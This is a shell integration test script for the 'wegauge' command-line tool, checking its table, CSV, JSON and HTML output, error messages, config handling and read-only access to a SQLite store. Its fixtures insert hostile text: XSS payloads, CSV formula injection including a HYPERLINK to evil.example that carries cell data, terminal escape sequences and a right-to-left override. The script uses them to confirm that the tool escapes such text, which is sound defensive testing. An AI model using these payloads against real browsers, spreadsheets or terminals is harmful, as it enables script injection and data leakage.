# tests/it_cli.sh: the wegauge tool end to end, against a populated store.
#
# The store is built from schema/*.sql and tests/fixtures/cli/populate.sql,
# whose days are relative to today (UTC).
# Expected outputs live in tests/fixtures/cli/expected/CASE.{table,csv,json}
# with the day N days ago written @D-N@ (tomorrow @D+1@); they are made
# concrete here with date(1). Checked: exact output of every command in
# every format, CSV line endings (CRLF) and JSON validity, exit codes of
# status, text from the API that must not act on the reader (formulas,
# control and bidirectional characters), errors (missing database, not a
# database, not a wegauge store, schema too new / too old, unknown
# workspace, usage errors), -c CONFIG,
# that a held write lock does not block a read, that the store file is
# never written, and the HTML report rendered by headless Chromium
# (title, series and point counts, escaping of hostile store text).
#
# WEGAUGE_REGEN=1 rewrites the expected files from the current output
# (for a deliberate change of output; review the diff before committing).
#
# If the UTC day changes while the test runs, the fixture and the
# expectations disagree by a day; the test then runs once more.
#
# Environment (ctest): WEGAUGE, SOURCE_DIR, FIXTURES, TEST_TMP.
set -eu

: "${TEST_TMP:=/tmp}"
: "${WEGAUGE:?WEGAUGE must name the wegauge binary}"
: "${SOURCE_DIR:?}"
: "${FIXTURES:?}"
EXP="$FIXTURES/cli/expected"
# The schema version this build knows: the number of schema files.
SCHEMA=$(
	set -- "$SOURCE_DIR"/schema/[0-9][0-9][0-9]-*.sql
	echo $#
)
REGEN=${WEGAUGE_REGEN:-0}
mkdir -p "$TEST_TMP"
DIR=$(mktemp -d "$TEST_TMP/it_cli.XXXXXX")
WRITER_PID=""
cleanup() {
	rc=$?
	if [ -n "$WRITER_PID" ]; then
		kill "$WRITER_PID" 2>/dev/null || true
		wait "$WRITER_PID" 2>/dev/null || true
	fi
	if [ "$rc" = 0 ]; then
		rm -rf "$DIR"
	else
		echo "kept $DIR for inspection" >&2
	fi
	exit "$rc"
}
trap cleanup EXIT

FAILS=0
failure() {
	echo "FAIL: $*" >&2
	FAILS=$((FAILS + 1))
}

# The day N days from today (UTC): day_of -3
day_of() { date -u -d "$TODAY $1 days" +%F; }

# Turn a template into concrete text: every @D-N@ / @D+N@ into its day.
concretize() {
	script=""
	for n in $(grep -o '@D[-+][0-9]*@' "$1" | sort -u | tr -d '@D'); do
		script="$script -e s/@D$n@/$(day_of "$n")/g"
	done
	if [ -n "$script" ]; then
		# shellcheck disable=SC2086
		sed $script "$1"
	else
		cat "$1"
	fi
}

# The reverse, for WEGAUGE_REGEN: every day within 400 days into @D-N@.
templatize() {
	script=""
	for n in $(seq 0 400); do
		script="$script -e s/$(day_of "-$n")/@D-$n@/g"
	done
	script="$script -e s/$(day_of "+1")/@D+1@/g"
	# shellcheck disable=SC2086
	sed $script
}

# build_store DB: every schema file in order, the fixture, and the schema
# version wegauged's migration would leave.
build_store() {
	rm -f "$1" "$1-wal" "$1-shm"
	db=$1
	set -- "$SOURCE_DIR"/schema/[0-9][0-9][0-9]-*.sql
	{
		for f in "$@"; do echo ".read $f"; done
		echo ".read $FIXTURES/cli/populate.sql"
		echo "PRAGMA user_version = $#;"
	} | sqlite3 -bail "$db" >/dev/null
}

# check CASE ARGS...: run wegauge ARGS (on $DB) in all three formats and
# compare each with its expected file; the exit code must be $WANT_RC (0).
check() {
	name=$1
	shift
	for fmt in table csv json; do
		out="$DIR/$name.$fmt"
		rc=0
		"$WEGAUGE" -d "$DB" "$@" --format "$fmt" >"$out" 2>"$DIR/$name.$fmt.err" || rc=$?
		if [ "$rc" != "${WANT_RC:-0}" ]; then
			failure "$name ($fmt): exit $rc, expected ${WANT_RC:-0}: $(cat "$DIR/$name.$fmt.err")"
			continue
		fi
		if [ -s "$DIR/$name.$fmt.err" ]; then
			failure "$name ($fmt): unexpected stderr: $(cat "$DIR/$name.$fmt.err")"
		fi
		got="$out"
		if [ "$fmt" = csv ]; then
			# Records end in CRLF; no field holds a line break (it is escaped).
			crlf=$(grep -c "$(printf '\r')\$" "$out" || true)
			[ "$crlf" = "$(wc -l <"$out")" ] || failure "$name (csv): a line break in a field"
			last=$(tail -c 2 "$out" | od -An -tx1 | tr -d ' ')
			[ "$last" = 0d0a ] || failure "$name (csv): does not end in CRLF"
			tr -d '\r' <"$out" >"$out.lf"
			got="$out.lf"
		fi
		if [ "$fmt" = json ]; then
			valid=$(sqlite3 :memory: "SELECT json_valid(readfile('$out'))")
			[ "$valid" = 1 ] || failure "$name (json): not valid JSON"
			# The same rows: one CSV record per JSON object, plus the header.
			objects=$(sqlite3 :memory: "SELECT json_array_length(readfile('$out'))")
			[ "$crlf" = $((objects + 1)) ] ||
				failure "$name: $objects JSON objects but $crlf CSV records"
		fi
		if [ "$REGEN" = 1 ]; then
			templatize <"$got" >"$EXP/$name.$fmt"
			continue
		fi
		[ -f "$EXP/$name.$fmt" ] || {
			failure "$name ($fmt): no expected file $EXP/$name.$fmt"
			continue
		}
		concretize "$EXP/$name.$fmt" >"$DIR/$name.$fmt.want"
		if ! cmp -s "$DIR/$name.$fmt.want" "$got"; then
			failure "$name ($fmt): output differs from $EXP/$name.$fmt:"
			diff -u "$DIR/$name.$fmt.want" "$got" >&2 || true
		fi
	done
}

# expect_error RC MESSAGE-SUBSTRING ARGS...: wegauge ARGS exits RC with one
# line on stderr containing MESSAGE and nothing on stdout.
expect_error() {
	want_rc=$1
	want_msg=$2
	shift 2
	rc=0
	"$WEGAUGE" "$@" >"$DIR/err.out" 2>"$DIR/err.err" || rc=$?
	if [ "$rc" != "$want_rc" ]; then
		failure "wegauge $*: exit $rc, expected $want_rc"
	fi
	if [ "$(wc -l <"$DIR/err.err")" != 1 ] || ! grep -qF -- "$want_msg" "$DIR/err.err"; then
		failure "wegauge $*: stderr '$(cat "$DIR/err.err")' lacks '$want_msg'"
	fi
	if [ -s "$DIR/err.out" ]; then
		failure "wegauge $*: wrote to stdout on error"
	fi
}

status_rc() {
	rc=0
	"$WEGAUGE" -d "$1" status >/dev/null 2>&1 || rc=$?
	echo "$rc"
}

test_outputs() {
	WANT_RC=1 check status status
	WANT_RC=0 check status_acme status --workspace acme-prod
	check report report
	check report_7d_acme report --days 7 --workspace acme-prod
	check seats seats
	check seats_inactive_30d seats --inactive 30d
	check seats_inactive_60d_acme seats --inactive 60d --workspace acme-prod
	check pulls pulls
	check pulls_failed pulls --failed
	check pulls_last2 pulls --last 2
	check pulls_globex_failed_last1 pulls --workspace globex --failed --last 1
	test_overflow
}

# Issue 12, finding 6: one workspace (umbrella, tests/fixtures/cli/overflow.sql)
# whose totals leave the 64-bit range. Every format of the report and the
# HTML page still work, exact for the others (acme-prod's 7-day report is
# the same file as without umbrella), with a real where a total does not
# fit an integer.
test_overflow() {
	cp "$DB" "$DIR/overflow.db"
	sqlite3 -bail "$DIR/overflow.db" ".read $FIXTURES/cli/overflow.sql" >/dev/null
	plain_db=$DB
	DB="$DIR/overflow.db"
	check report_overflow report
	check report_7d_acme report --days 7 --workspace acme-prod
	"$WEGAUGE" -d "$DB" report --html "$DIR/overflow.html" >/dev/null 2>"$DIR/overflow.err" ||
		failure "report --html with an overflowing workspace: $(cat "$DIR/overflow.err")"
	grep -q 'data-workspace="umbrella"' "$DIR/overflow.html" 2>/dev/null ||
		failure "report --html with an overflowing workspace: no section for it"
	DB=$plain_db
}

test_status_exit() {
	cp "$DB" "$DIR/s.db"
	[ "$(status_rc "$DIR/s.db")" = 1 ] || failure "status: exit not 1 with a failing workspace"
	sqlite3 "$DIR/s.db" "UPDATE workspace SET state = 'connected' WHERE name = 'globex'"
	[ "$(status_rc "$DIR/s.db")" = 0 ] ||
		failure "status: exit not 0 with every enabled workspace connected"
	sqlite3 "$DIR/s.db" "UPDATE workspace SET state = 'disabled' WHERE name = 'globex'"
	[ "$(status_rc "$DIR/s.db")" = 0 ] || failure "status: a disabled workspace made it fail"
	for st in pending auth_failed failing; do
		sqlite3 "$DIR/s.db" "UPDATE workspace SET state = '$st' WHERE name = 'globex'"
		[ "$(status_rc "$DIR/s.db")" = 1 ] || failure "status: exit not 1 with a $st workspace"
	done
	"$WEGAUGE" -d "$DIR/s.db" status | tail -n 1 >"$DIR/summary"
	echo "3 workspaces: 1 connected, 1 failing, 1 removed; 1 enabled workspace is not connected" |
		cmp -s - "$DIR/summary" || failure "status summary: $(cat "$DIR/summary")"
	sqlite3 "$DIR/s.db" "UPDATE workspace SET state = 'connected'"
	"$WEGAUGE" -d "$DIR/s.db" status | tail -n 1 >"$DIR/summary"
	echo "3 workspaces: 3 connected; every enabled workspace is connected" |
		cmp -s - "$DIR/summary" || failure "status summary: $(cat "$DIR/summary")"
}

test_errors() {
	expect_error 1 "database $DIR/none.db: no such file" -d "$DIR/none.db" status
	head -c 4096 /dev/urandom >"$DIR/random.db"
	expect_error 1 "database $DIR/random.db: not a SQLite database" -d "$DIR/random.db" status
	printf 'this is not a database, it is text\n%.0s' $(seq 200) >"$DIR/text.db"
	expect_error 1 "database $DIR/text.db: not a SQLite database" -d "$DIR/text.db" status
	sqlite3 "$DIR/other.db" "CREATE TABLE t (x)"
	expect_error 1 "not a wegauge store (it has no wegauge application_id)" \
		-d "$DIR/other.db" status
	sqlite3 "$DIR/alien.db" "PRAGMA application_id = 1234; CREATE TABLE t (x)"
	expect_error 1 "not a wegauge store (application_id 0x4d2 belongs to another program)" \
		-d "$DIR/alien.db" seats
	cp "$DB" "$DIR/new.db"
	sqlite3 "$DIR/new.db" "PRAGMA user_version = 99"
	expect_error 1 "schema version 99 is newer than this wegauge knows ($SCHEMA): upgrade wegauge" \
		-d "$DIR/new.db" report
	cp "$DB" "$DIR/old.db"
	sqlite3 "$DIR/old.db" "PRAGMA user_version = 0"
	expect_error 1 "schema version 0 is older than this wegauge knows ($SCHEMA)" -d "$DIR/old.db" pulls
	cp "$DB" "$DIR/v1.db"
	sqlite3 "$DIR/v1.db" "PRAGMA user_version = 1"
	expect_error 1 "schema version 1 is older than this wegauge knows ($SCHEMA): start wegauged" \
		-d "$DIR/v1.db" report
	mkdir -p "$DIR/adir"
	expect_error 1 "not a regular file" -d "$DIR/adir" status
	expect_error 1 "no workspace nope in the store" -d "$DB" pulls --workspace nope
	expect_error 1 "configuration $DIR/none.conf: No such file or directory" \
		-c "$DIR/none.conf" status
	# usage errors: exit 2
	expect_error 2 "expected a command" -d "$DB"
	expect_error 2 "unknown command 'stats'" -d "$DB" stats
	expect_error 2 "unknown option '--frobnicate'" -d "$DB" status --frobnicate
	expect_error 2 "--days: expected a whole number of days, 1 to 3650" -d "$DB" report --days 0
	expect_error 2 "--days: expected a whole number of days" -d "$DB" report --days 7x
	expect_error 2 "--inactive: expected a duration with a unit" -d "$DB" seats --inactive 30
	expect_error 2 "--format: expected table, csv or json, got 'xml'" -d "$DB" pulls --format xml
	expect_error 2 "report does not take --failed" -d "$DB" report --failed
	expect_error 2 "seats does not take --days" -d "$DB" --days 3 seats
	expect_error 2 "--last: expected a whole number, 1 to 1000000" -d "$DB" pulls --last 0
	expect_error 2 "--workspace: expected a workspace name" -d "$DB" status --workspace 'a b'
	expect_error 2 "give either --database or --config, not both" -d "$DB" -c x status
	expect_error 2 "--html: expected a file name" -d "$DB" report --html -
	expect_error 2 "--database: expected a value" status --database
	# help and version
	"$WEGAUGE" -h | head -n 1 | grep -q '^usage: wegauge' || failure "-h: no usage line"
	"$WEGAUGE" --version | grep -Eq "^wegauge [0-9]+\.[0-9]+\.[0-9]+ \(store schema $SCHEMA\)\$" ||
		failure "--version: $("$WEGAUGE" --version)"
}

test_config() {
	mkdir -p "$DIR/etc"
	cp "$DB" "$DIR/etc/from-config.db"
	cat >"$DIR/etc/wegauged.conf" <<-EOF
		; a configuration as wegauged reads it
		[daemon]
		  database = $DIR/etc/from-config.db   ; indented, with a comment
		include_dir = $DIR/etc/unreadable.d

		[workspace "acme-prod"]
		license_code = 311c48b3
		api_key_file = $DIR/etc/no-such.key
	EOF
	"$WEGAUGE" -c "$DIR/etc/wegauged.conf" pulls --last 1 --format csv >"$DIR/cfg.csv" ||
		failure "-c: wegauge failed"
	grep -q '^8,acme-prod,' "$DIR/cfg.csv" || failure "-c: wrong output $(cat "$DIR/cfg.csv")"
	printf '[daemon]\ndatabase = %s\n' "$DIR/etc/missing.db" >"$DIR/etc/missing.conf"
	expect_error 1 "database $DIR/etc/missing.db: no such file" -c "$DIR/etc/missing.conf" seats
}

# A writer holding the write lock (an open BEGIN IMMEDIATE with an
# uncommitted change) does not block the tool, which sees the last
# committed state; the tool never writes the store file.
test_readonly() {
	cp "$DB" "$DIR/busy.db"
	sqlite3 "$DIR/busy.db" "PRAGMA journal_mode = WAL" >/dev/null
	sum_before=$(md5sum <"$DIR/busy.db")
	mkfifo "$DIR/writer.in"
	sqlite3 "$DIR/busy.db" <"$DIR/writer.in" >"$DIR/writer.out" 2>&1 &
	WRITER_PID=$!
	exec 3>"$DIR/writer.in"
	echo "BEGIN IMMEDIATE; UPDATE workspace SET state = 'connected' WHERE name = 'globex';" >&3
	echo "SELECT 'locked';" >&3
	end=$(($(date +%s) + 30))
	until grep -q locked "$DIR/writer.out" 2>/dev/null; do
		[ "$(date +%s)" -lt "$end" ] || {
			failure "the writer did not take the lock"
			break
		}
		sleep 0.05
	done
	t0=$(date +%s)
	rc=0
	"$WEGAUGE" -d "$DIR/busy.db" status --format csv >"$DIR/busy.csv" 2>&1 || rc=$?
	t1=$(date +%s)
	[ "$rc" = 1 ] || failure "status under a write lock: exit $rc: $(cat "$DIR/busy.csv")"
	grep -q '^globex,failing,' "$DIR/busy.csv" ||
		failure "status under a write lock saw uncommitted data: $(cat "$DIR/busy.csv")"
	[ $((t1 - t0)) -lt 4 ] || failure "status waited $((t1 - t0))s behind the writer"
	echo "ROLLBACK;" >&3
	exec 3>&-
	wait "$WRITER_PID" || true
	WRITER_PID=""
	[ "$(md5sum <"$DIR/busy.db")" = "$sum_before" ] || failure "the store file changed"
}

# An operator in the daemon's group may read the store and its directory
# but create nothing there: the tool reads a stopped store (no -wal, no
# -shm: it falls back to immutable) and a running one (the writer's -shm).
# Needs root to play the roles (root owns the store, nobody:nogroup reads).
test_group_reader() {
	if [ "$(id -u)" != 0 ] || ! command -v setpriv >/dev/null || ! id nobody >/dev/null 2>&1 ||
		! getent group nogroup >/dev/null; then
		echo "it_cli: skipping the group reader check (needs root, setpriv, nobody:nogroup)" >&2
		return
	fi
	g="$DIR/group"
	mkdir "$g"
	cp "$DB" "$g/store.db"
	chown -R root:nogroup "$g"
	chmod 0750 "$g"
	chmod 0640 "$g/store.db"
	chmod o+x "$DIR"
	as_reader() { setpriv --reuid=nobody --regid=nogroup --clear-groups "$WEGAUGE" "$@"; }
	if ! setpriv --reuid=nobody --regid=nogroup --clear-groups test -r "$g/store.db"; then
		echo "it_cli: skipping the group reader check ($TEST_TMP is not reachable by nobody)" >&2
		chmod o-x "$DIR"
		return
	fi
	as_reader -d "$g/store.db" seats --format csv >"$DIR/group.csv" 2>&1 ||
		failure "a group reader cannot read a stopped store: $(cat "$DIR/group.csv")"
	grep -q '^acme-prod,4,1,2,3,1,25.0' "$DIR/group.csv" ||
		failure "group reader, stopped store: $(cat "$DIR/group.csv")"
	[ -z "$(find "$g" -name 'store.db-*')" ] || failure "the reader created files beside the store"
	mkfifo "$DIR/owner.in"
	(umask 027 && exec sqlite3 "$g/store.db" <"$DIR/owner.in" >"$DIR/owner.out" 2>&1) &
	WRITER_PID=$!
	exec 4>"$DIR/owner.in"
	echo "SELECT 'open' FROM pull LIMIT 1;" >&4
	end=$(($(date +%s) + 30))
	until grep -q open "$DIR/owner.out" 2>/dev/null; do
		[ "$(date +%s)" -lt "$end" ] || {
			failure "the owner did not open the store"
			break
		}
		sleep 0.05
	done
	as_reader -d "$g/store.db" seats --format csv >"$DIR/group2.csv" 2>&1 ||
		failure "a group reader cannot read a store in use: $(cat "$DIR/group2.csv")"
	cmp -s "$DIR/group.csv" "$DIR/group2.csv" || failure "group reader, store in use: differs"
	exec 4>&-
	wait "$WRITER_PID" || true
	WRITER_PID=""
	chmod o-x "$DIR"
}

CHROMIUM_FLAGS="--headless --no-sandbox --disable-gpu --disable-quic --no-first-run
--disable-background-networking --disable-component-update --disable-sync"

# chromium_run ARGS...: headless Chromium with a fresh profile.
chromium_run() {
	profile=$(mktemp -d "$DIR/chromium.XXXXXX")
	# shellcheck disable=SC2086
	timeout 120 chromium $CHROMIUM_FLAGS --user-data-dir="$profile" "$@" 2>>"$DIR/chromium.log"
}

# count_in_series DOM KEY VALUE: circles inside <g class="series" data-KEY="VALUE">.
count_in_series() {
	awk -v open="<g class=\"series\" data-$2=\"$3\"" '
		index($0, open) { on = 1 }
		on { n += gsub(/<circle class="point"/, "&") }
		on && /<\/g>/ { on = 0 }
		END { print n + 0 }' "$1"
}

test_html() {
	command -v chromium >/dev/null || {
		failure "chromium is not installed (scripts/deps installs it)"
		return
	}
	# --html writes the page and prints the report as usual.
	"$WEGAUGE" -d "$DB" report --html "$DIR/report.html" --format csv >"$DIR/report.html.csv" ||
		failure "report --html failed"
	tr -d '\r' <"$DIR/report.html.csv" | cmp -s - "$DIR/report.csv.lf" ||
		failure "report --html printed something else than report"
	leftover=$(find "$DIR" -maxdepth 1 -name 'report.html.*' ! -name report.html.csv)
	[ -z "$leftover" ] || failure "report --html left a temporary file: $leftover"
	grep -Eq '<(script|link|img|iframe)|src=|href=|url\(|@import' "$DIR/report.html" &&
		failure "the HTML report refers to something outside itself"
	chromium_run --screenshot="$DIR/report.png" --window-size=1280,2000 \
		"file://$DIR/report.html" >/dev/null
	[ -f "$DIR/report.png" ] || failure "chromium wrote no screenshot"
	size=$(stat -c %s "$DIR/report.png" 2>/dev/null || echo 0)
	[ "$size" -gt 20000 ] || failure "the screenshot is only $size bytes"
	head -c 8 "$DIR/report.png" | od -An -tx1 | grep -q '89 50 4e 47 0d 0a 1a 0a' ||
		failure "the screenshot is not a PNG"
	chromium_run --dump-dom "file://$DIR/report.html" >"$DIR/report.dom"
	grep -qF "<title>wegauge report $(day_of -29) .. $(day_of 0)</title>" "$DIR/report.dom" ||
		failure "the DOM lacks the expected title"
	# Sections, series and points against the fixture data.
	n=$(grep -o '<section class="workspace"' "$DIR/report.dom" | wc -l)
	[ "$n" = 3 ] || failure "$n workspace sections, expected 3"
	n=$(grep -o '<g class="series" data-channel=' "$DIR/report.dom" | wc -l)
	[ "$n" = 5 ] || failure "$n delivery series, expected 5 (acme-prod 3, globex 2)"
	n=$(grep -o '<g class="series" data-platform=' "$DIR/report.dom" | wc -l)
	[ "$n" = 3 ] || failure "$n DAU series, expected 3 (acme-prod 2, globex 1)"
	n=$(grep -o '<circle class="point"' "$DIR/report.dom" | wc -l)
	[ "$n" = 14 ] || failure "$n points, expected 14"
	grep -q 'data-channel="OVERALL"' "$DIR/report.dom" && failure "OVERALL is drawn as a channel"
	for want in "channel EMAIL 3" "channel PUSH_NOTIFICATION 2" "channel WHATSAPP 1" \
		"channel SMS 1" "platform android 3" "platform ios 2" "platform web 1"; do
		set -- $want
		got=$(count_in_series "$DIR/report.dom" "$1" "$2")
		# EMAIL and SMS appear for two workspaces: acme-prod EMAIL 3 + globex EMAIL 1,
		# globex SMS 1 (acme-prod SMS has no day in the window).
		case "$2" in
		EMAIL) exp=4 ;;
		*) exp=$3 ;;
		esac
		[ "$got" = "$exp" ] || failure "series $1=$2: $got points, expected $exp"
	done
	n=$(grep -o '<g class="bar" data-window=' "$DIR/report.dom" | wc -l)
	[ "$n" = 6 ] || failure "$n seat bars, expected 6 (3 per workspace with seats)"
	grep -q '<g class="bar" data-window="30d" data-active="1" data-seats="4">' "$DIR/report.dom" ||
		failure "acme-prod's 30-day seat bar is wrong"

	# Hostile text in the store stays text.
	cp "$DB" "$DIR/evil.db"
	sqlite3 -bail "$DIR/evil.db" <<-'EOF'
		INSERT INTO feature_usage_daily VALUES ('acme-prod', date('now'),
		  '<script>alert(1)</script>', 'deliveries', 5, 7, '2026-01-01T00:00:00Z');
		INSERT INTO active_users_daily VALUES ('acme-prod', date('now'),
		  '"><img src=x onerror=alert(2)>', 3, NULL, NULL, 7, '2026-01-01T00:00:00Z');
		INSERT INTO campaign (workspace, channel, campaign_id, title, start_date, delivered,
		  pull_id, updated_at) VALUES ('acme-prod', 'EMAIL', '~evil',
		  '</table><script>alert(3)</script><b onmouseover=x>', date('now') || 'T00:00:00Z',
		  1, 7, '2026-01-01T00:00:00Z');
	EOF
	"$WEGAUGE" -d "$DIR/evil.db" report --html "$DIR/evil.html" >/dev/null ||
		failure "report --html (evil)"
	chromium_run --dump-dom "file://$DIR/evil.html" >"$DIR/evil.dom"
	# Escaped, the hostile text has no '<' left: any of these is a real element.
	grep -Eqi '<script|<img|<b[ >]' "$DIR/evil.dom" &&
		failure "store text became markup: $(grep -Eio '.{40}(<script|<img|<b[ >]).{40}' "$DIR/evil.dom" | head -3)"
	grep -qF '&lt;script&gt;alert(1)&lt;/script&gt;' "$DIR/evil.dom" ||
		failure "the hostile channel name is not shown as text"
	grep -qF '&lt;/table&gt;&lt;script&gt;alert(3)&lt;/script&gt;' "$DIR/evil.dom" ||
		failure "the hostile campaign title is not shown as text"
	n=$(grep -o '<g class="series" data-channel=' "$DIR/evil.dom" | wc -l)
	[ "$n" = 6 ] || failure "$n delivery series with the hostile channel, expected 6"
}

# Issue 12, findings 5 and 7: text from the API that a spreadsheet would
# run (=, +, -, @ first) or a terminal would obey (ESC, BEL, backspace) or
# that hides or reverses what it says (U+202E, U+200B) cannot reach the
# reader as such: CSV neutralises formulas and escapes control characters,
# the table also shows invisible characters, and no output of any command
# holds a control byte.
test_hostile_text() {
	cp "$DB" "$DIR/hostile.db"
	sqlite3 -bail "$DIR/hostile.db" <<-'EOF'
		INSERT INTO seat (workspace, email, name, role, status, last_login_at, first_seen_at,
		  last_seen_at, removed_at, pull_id, updated_at) VALUES
		 ('globex', '@SUM(1+1)*cmd|'' /C calc''!A0',
		  '=HYPERLINK("http://evil.example/?"&A1,"Click")', '+ADMIN', 'ACTIVE', NULL,
		  '2026-01-01T00:00:00Z', '2026-01-01T00:00:00Z', NULL, 2, '2026-01-01T00:00:00Z'),
		 ('globex', 'mal@globex.example', 'Mal' || char(27) || '[2J' || char(8) || 'lory',
		  'admin' || char(0x202e) || 'gnp.exe', '-1+1', NULL, '2026-01-01T00:00:00Z',
		  '2026-01-01T00:00:00Z', NULL, 2, '2026-01-01T00:00:00Z');
		INSERT INTO feature_usage_daily VALUES ('globex', date('now'),
		  '=HYPERLINK("http://evil.example")', 'deliveries', -5, 2, '2026-01-01T00:00:00Z');
		INSERT INTO pull (id, workspace, started_at, finished_at, status, requests, retries,
		  rows, error) VALUES (9, 'globex', date('now') || 'T08:30:00Z',
		  date('now') || 'T08:30:01Z', 'failed', 1, 0, 0,
		  'stream stats: malformed JSON at byte 3: invalid token near ''' || char(27) ||
		  ']0;pwned' || char(7) || '''' || char(0x200b));
	EOF
	H="$DIR/hostile"
	for cmd in "status" "report" "seats --inactive 1d" "pulls"; do
		for fmt in table csv json; do
			out="$H.$(echo "$cmd" | tr -c 'a-z0-9\n' _).$fmt"
			# shellcheck disable=SC2086
			"$WEGAUGE" -d "$DIR/hostile.db" $cmd --format "$fmt" >"$out" 2>&1 || true
			if LC_ALL=C grep -q "$(printf '[\001-\011\013\014\016-\037\177]')" "$out"; then
				failure "hostile text: '$cmd --format $fmt' printed a control byte"
			fi
			if [ "$fmt" != csv ] && grep -q "$(printf '\342\200[\213\256]')" "$out"; then
				failure "hostile text: '$cmd --format $fmt' printed U+202E or U+200B as is"
			fi
		done
	done
	want_line() { # FILE LINE: LINE is a line of FILE (CR stripped)
		tr -d '\r' <"$1" | grep -qxF -- "$2" || failure "hostile text: $1 lacks the line: $2"
	}
	want_line "$H.seats___inactive_1d.csv" \
		"inactive,globex,,,,,,,\"'@SUM(1+1)*cmd|' /C calc'!A0\",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",\"'+ADMIN\",ACTIVE,,"
	want_line "$H.seats___inactive_1d.csv" \
		"inactive,globex,,,,,,,mal@globex.example,Mal\\x1b[2J\\x08lory,admin$(printf '\342\200\256')gnp.exe,\"'-1+1\",,"
	want_line "$H.seats___inactive_1d.table" \
		"globex     mal@globex.example           Mal\\x1b[2J\\x08lory                              admin<U+202E>gnp.exe  -1+1    -                             -"
	want_line "$H.report.csv" \
		"channels,globex,\"'=HYPERLINK(\"\"http://evil.example\"\")\",,-,,-,-5,new,,-,,-,,-,1,new,,,,,"
	want_line "$H.pulls.csv" \
		"9,globex,$(day_of 0)T08:30:00Z,$(day_of 0)T08:30:01Z,1,failed,1,0,0,\"stream stats: malformed JSON at byte 3: invalid token near '\\x1b]0;pwned\\x07'$(printf '\342\200\213')\""
	want_line "$H.pulls.table" \
		" 9  globex     $(day_of 0)T08:30:00Z  $(day_of 0)T08:30:01Z        1  failed            1        0     0  stream stats: malformed JSON at byte 3: invalid token near '\\x1b]0;pwned\\x07'<U+200B>"
	want_line "$H.pulls.json" \
		"  {\"id\":9,\"workspace\":\"globex\",\"started\":\"$(day_of 0)T08:30:00Z\",\"finished\":\"$(day_of 0)T08:30:01Z\",\"seconds\":1,\"status\":\"failed\",\"requests\":1,\"retries\":0,\"rows\":0,\"error\":\"stream stats: malformed JSON at byte 3: invalid token near '\\u001b]0;pwned\\u0007'\\u200b\"},"
}

run_all() {
	FAILS=0
	find "$DIR" -mindepth 1 -delete # a second run starts afresh
	TODAY=$(date -u +%F)
	DB="$DIR/store.db"
	build_store "$DB"
	test_outputs
	if [ "$REGEN" = 1 ]; then
		echo "expected files rewritten in $EXP" >&2
		return
	fi
	test_status_exit
	test_errors
	test_config
	test_hostile_text
	test_readonly
	test_group_reader
	test_html
}

run_all
if [ "$FAILS" != 0 ] && [ "$(date -u +%F)" != "$TODAY" ]; then
	echo "the UTC day changed during the test; running it again" >&2
	run_all
fi
if [ "$FAILS" != 0 ]; then
	echo "it_cli: $FAILS check(s) failed" >&2
	exit 1
fi
echo "it_cli: all checks passed"
